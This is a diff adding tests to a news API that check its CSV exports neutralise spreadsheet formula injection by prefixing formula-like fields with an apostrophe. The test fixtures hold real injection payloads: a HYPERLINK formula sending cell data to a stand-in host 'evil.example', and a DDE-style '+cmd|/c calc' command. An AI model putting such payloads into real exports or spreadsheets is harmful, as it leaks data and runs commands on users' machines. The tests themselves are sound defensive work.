@@ -1,6 +1,7 @@
 import request from 'supertest'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import { createTestContext, fixture, type TestContext } from '../helpers/context.js'
+import { createTestContext, fixture, scratchFiles, type TestContext } from '../helpers/context.js'
+import { csvField } from '../../src/shared/export.js'
 
 // Issue #24 "Faults that never lie": each error says what it is, with the status it is.
 
@@ -212,5 +213,56 @@ describe('forged cursors', () => {
         expect(res.body.errors).toEqual([expect.objectContaining({ in: 'query', name: 'cursor' })])
       }
     }
+  })
+})
+
+describe('CSV exports and spreadsheet formulas', () => {
+  let ctx: TestContext
+  beforeAll(async () => {
+    ctx = await createTestContext()
+    const file = scratchFiles('newsdesk-csv-')(
+      'formulas.json',
+      [
+        JSON.stringify({
+          title: '=HYPERLINK("https://evil.example/?"&A1,"Minister Ann Lee")',
+          body: 'Transport minister Ann Lee said on Monday that the harbour plan would create 400 jobs. "We are ready for it," Lee said.',
+          publishedAt: '2024-05-06',
+          section: '@SUM(A1:A9)',
+          agency: '+cmd|/c calc',
+          dateline: '-2+3',
+        }),
+      ].join(''),
+    )
+    await ctx.ingest(file)
+    const person = (await request(ctx.app.server).get('/people?limit=1').expect(200)).body.data[0]
+    await ctx.prisma.person.update({ where: { id: person.id }, data: { name: '\t=1+1', nameLower: '\t=1+1' } })
+    await ctx.readStore.catchUp()
+  })
+  afterAll(() => ctx.close())
+
+  const csv = async (path: string) => (await request(ctx.app.server).get(`${path}?format=csv`).expect(200)).text
+
+  it('keeps formula-like text as text in the articles export', async () => {
+    const text = await csv('/articles/export')
+    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Minister Ann Lee"")"`)
+    expect(text).toContain(`"'@SUM(A1:A9)"`)
+    expect(text).toContain(`"'+cmd|/c calc"`)
+    expect(text).toContain(`"'-2+3"`)
+    // counts are numbers, not text: never prefixed
+    expect(text).not.toMatch(/"'\d/)
+  })
+
+  it('in the quotes export', async () => {
+    expect(await csv('/quotes/export')).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Minister Ann Lee"")"`)
+  })
+
+  it('in the people export', async () => {
+    expect(await csv('/people/export')).toContain(`"'\t=1+1"`)
+  })
+
+  it('for each character a spreadsheet starts a formula with', () => {
+    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(csvField(`${start}1`)).toBe(`"'${start}1"`)
+    expect(csvField(-1)).toBe('-1')
+    expect(csvField('a-1')).toBe('a-1')
   })
 })
